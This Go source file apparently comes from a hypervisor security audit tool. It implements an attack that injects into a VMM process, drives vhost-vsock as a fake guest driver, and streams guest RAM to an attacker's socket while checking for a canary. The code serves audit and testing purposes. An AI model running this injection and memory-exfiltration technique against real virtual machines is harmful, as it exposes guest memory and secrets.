package audit

import (
	"context"
	"errors"
	"fmt"
	"iter"
	"slices"

	"golang.org/x/sys/unix"

	"offmap/audit/inject"
)

// vhost has a virtio device that the kernel implements send guest RAM away.
var vhost = Avenue{
	Name: "vhost", Attack: attackVhost, Owner: true,
	About: "gives vhost-vsock the VMM's memory, and has it send guest RAM to a socket of the attacker's",
}

const vhostPath = "/dev/vhost-vsock"

// vhostAtOnce is how much is sent in one message, in bytes.
const vhostAtOnce = 8 * pageSize

// attackVhost acts as a guest's vsock driver: it connects to a socket of the
// attacker's and sends messages whose payload is guest RAM. vhost reads the payload
// through the VMM's page tables.
//
// A message of zeros follows each. It gets the kernel buffer that the first message
// has freed, and so overwrites that copy of guest RAM.
func attackVhost(ctx context.Context, t Target) (f Finding, err error) {
	device, err := openVhost()
	if err != nil {
		return f, err
	}
	defer unix.Close(device)
	pages, err := t.populated(ctx)
	if err != nil {
		return f, err
	}
	listener, port, err := listenVsock()
	if err != nil {
		return f, err
	}
	defer unix.Close(listener)
	// Not ctx, since cleaning up takes calls as well.
	err = inject.Run(context.WithoutCancel(ctx), t.PID, func(th *inject.Thread) (err error) {
		d := vsockDriver{thread: th, pid: t.PID, port: port}
		if err := d.start(device); err != nil {
			return err
		}
		defer func() { err = errors.Join(err, d.stop()) }()
		conn, err := d.connect(listener)
		if err != nil {
			return err
		}
		defer unix.Close(conn)
		buf := make([]byte, vhostAtOnce)
		defer clear(buf)
		for run := range runs(pages, vhostAtOnce) {
			if err := ctx.Err(); err != nil {
				return err
			}
			p := buf[:run.Size()]
			if err := d.fetch(conn, run.Start, p); err != nil {
				return err
			}
			f.look(&t.Canary, p)
			if err := d.fetch(conn, d.zeros(), p); err != nil {
				return err
			}
		}
		return nil
	})
	return f, orDenied(err)
}

func openVhost() (int, error) {
	fd, err := unix.Open(vhostPath, unix.O_RDWR|unix.O_CLOEXEC, 0)
	switch {
	case errors.Is(err, unix.ENOENT), errors.Is(err, unix.ENODEV):
		return -1, unavailable("open %s: %v: modprobe vhost_vsock", vhostPath, err)
	case errors.Is(err, unix.EACCES):
		return -1, unavailable("open %s: %v: run as root", vhostPath, err)
	case err != nil:
		return -1, fmt.Errorf("open %s: %w", vhostPath, err)
	}
	return fd, nil
}

// populated lists the target's pages that exist, in ascending order: those in its
// page tables, those of the files in memory that it has mapped, and those that it
// has mapped from /dev/mem.
func (t Target) populated(ctx context.Context) ([]uint64, error) {
	frames, err := t.frames(ctx)
	if err != nil {
		return nil, err
	}
	areas, err := t.areas()
	if err != nil {
		return nil, err
	}
	var pages []uint64
	for p := range frames {
		if p.file == 0 {
			pages = append(pages, p.at)
		}
	}
	for _, a := range areas {
		if !isMemory(a.Path) {
			continue
		}
		mappings, err := t.mappingsOf(a.Path)
		if err != nil {
			return nil, err
		}
		for _, m := range mappings {
			for addr := m.start; addr < m.end; addr += pageSize {
				if _, ok := frames[place{m.inode, addr - m.start + uint64(m.offset)}]; ok {
					pages = append(pages, addr)
				}
			}
		}
	}
	mappings, err := t.mappingsOf(devMemPath)
	if err != nil {
		return nil, err
	}
	for _, m := range mappings {
		for addr := m.start; addr < m.end; addr += pageSize {
			pages = append(pages, addr)
		}
	}
	slices.Sort(pages)
	return slices.Compact(pages), nil
}

// runs joins adjacent pages, up to most bytes.
func runs(pages []uint64, most uint64) iter.Seq[area] {
	return func(yield func(area) bool) {
		for len(pages) > 0 {
			run := area{Start: pages[0], End: pages[0] + pageSize}
			for pages = pages[1:]; len(pages) > 0 && pages[0] == run.End && run.Size() < most; pages = pages[1:] {
				run.End += pageSize
			}
			if !yield(run) {
				return
			}
		}
	}
}
